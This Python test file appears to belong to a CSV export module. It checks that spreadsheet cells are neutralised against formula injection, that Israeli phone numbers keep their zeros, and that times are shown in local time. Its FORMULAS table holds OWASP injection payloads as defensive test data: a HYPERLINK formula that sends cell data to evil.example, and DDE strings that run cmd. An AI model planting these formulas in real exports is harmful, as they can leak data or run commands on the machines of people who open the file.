"""CSV for people: no cell is a formula, and what is none stays as it was written."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pazpaz.accounts.models import Locale
from pazpaz.clients.phones import dialling_of
from pazpaz.exports.cells import cell, lines, local, phone, plain

SIGNS = "=+-@＝＋－＠"
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"x")': "OWASP, CSV Injection",
    "=1+1": "LibreOffice 7.4 computes it, in quotes too",
    "+1+cmd|' /C calc'!A0": "OWASP",
    "-2+3+cmd|' /C calc'!A0": "OWASP",
    "@SUM(1+1)*cmd|' /C calc'!A0": "OWASP",
    "- כאב בלילה": "a list in a note: Excel shows #NAME?",
    "\t=1+1": "OWASP; LibreOffice 7.4 drops the tab",
    "\r=1+1": "OWASP",
    "\n=1+1": "OWASP",
    "\tx": "ASVS 5.0, 1.2.10",
    "\rx": "ASVS 5.0, 1.2.10",
    "\x00=1+1": "ASVS 5.0, 1.2.10",
    " =1+1": "LibreOffice 7.4 drops the space",
    "\u00a0=1+1": "a space of Word and phones",
    "\u200f=1+1": "a mark of direction, as WhatsApp copies along",
    "\ufeff=1+1": "a mark of UTF-8 at a text's start",
    "＝1+1": "full width, which Excel in Japanese reads as a sign",
    "＋1": "likewise",
    "－1": "likewise",
    "＠SUM(1)": "likewise",
}
TEXTS = {
    "כאב גב, 4/10": "a note",
    "ישנה טוב;- בלי כדורים": "a dash after a separator: an apostrophe stood inside of notes",
    "עלה:\n- שינה\n- תיאבון": "a list in a note, likewise",
    "a\r\n\t=1+1": "a formula that somebody quotes, likewise",
    'הוא אמר ",=1+1"': "likewise, in quotation marks",
    "L4-L5": "a hyphen inside",
    "a+b@example.org": "an address",
    "it's": "an apostrophe of the text's own",
    "'ז": "likewise, at its start",
    "\nx": "a note that begins with an empty line",
    '"x"': "quotation marks",
    "": "nothing",
}
VALUES: dict[str, tuple[Any, str]] = {
    "nothing": (None, ""),
    "yes": (True, "true"),
    "a number": (-3, "-3"),
    "a day": (date(1980, 2, 3), "1980-02-03"),
    "a moment": (datetime(2026, 3, 1, 8, tzinfo=UTC), "2026-03-01T08:00:00Z"),
    "tags": (["גב", "=x"], "גב, =x"),
    "a tag alone": (["=x"], "'=x"),
}
PHONES = {
    "0525550148": ("052-555-0148", "LibreOffice 7.4 and Excel make 525550148 of the digits"),
    "052-555-0148": ("052-555-0148", "as people write it"),
    "052 555 0148": ("052-555-0148", "a space parts thousands where French is spoken"),
    "+972525550148": ("052-555-0148", "LibreOffice 7.4 makes 972525550148 of it"),
    "\u200e0525550148": ("052-555-0148", "an invisible mark, as phones copy it along"),
    "+442079460958": ("'+44 20 7946 0958", "abroad: begins as a formula does"),
    "0999999": ("'0999999", "no number that exists: its digits stay"),
    "*2700": ("*2700", "a short number in Israel"),
    "0525550148 (אמא)": ("052-555-0148 (אמא)", "with a word"),
    "=1+1": ("'=1+1", "no number at all"),
}
MOMENTS = {
    "2026-03-01T08:00:00+00:00": ("2026-03-01 10:00:00", "winter"),
    "2026-07-01T22:30:00+00:00": ("2026-07-02 01:30:00", "summer, another day"),
    "2026-10-24T22:30:00+00:00": ("2026-10-25 01:30:00", "first time that night, summer time"),
    "2026-10-24T23:30:00.123456+00:00": (
        "2026-10-25 01:30:00",
        "second time; UTC beside it tells them apart",
    ),
}


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_kept_from_being_one(text: str) -> None:
    """An apostrophe stands before it, and all behind the apostrophe is as it was."""
    assert plain(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_what_is_no_formula_is_as_it_was_written(text: str) -> None:
    """Whatever stands inside of it."""
    assert plain(text) == text


@given(st.text(alphabet=st.sampled_from(SIGNS + "a1 \t\r\n;,\"'|"), max_size=12))
def test_no_text_becomes_a_formula(text: str) -> None:
    """Whatever is written, the cell a spreadsheet reads does not begin as one, and says all of the text."""
    [[read]] = csv.reader(io.StringIO(lines([[cell(text)]]).decode(), newline=""))
    assert not read.strip().startswith(tuple(SIGNS))
    assert not read.startswith(("\t", "\r"))
    assert read in (text, f"'{text}")


@pytest.mark.parametrize(("value", "shown"), VALUES.values(), ids=VALUES)
def test_what_people_read(value: Any, shown: str) -> None:
    assert cell(value) == shown


@pytest.mark.parametrize(("typed", "shown"), [(typed, shown) for typed, (shown, _) in PHONES.items()])
def test_a_phone_number_keeps_its_zeros(typed: str, shown: str) -> None:
    """It is text to a spreadsheet, and no formula."""
    assert phone(typed, dialling_of("Asia/Jerusalem", Locale.HE)) == shown


@pytest.mark.parametrize(("at", "shown"), [(at, shown) for at, (shown, _) in MOMENTS.items()])
def test_a_moment_in_the_practice_s_time(at: str, shown: str) -> None:
    assert local(datetime.fromisoformat(at), ZoneInfo("Asia/Jerusalem")) == shown


def test_a_cell_is_read_back_whole() -> None:
    """Quotes, commas and line breaks stay inside their cell."""
    text = 'one "two"\nthree, four'
    assert list(csv.reader(io.StringIO(lines([["a", text, "b"]]).decode(), newline=""))) == [["a", text, "b"]]
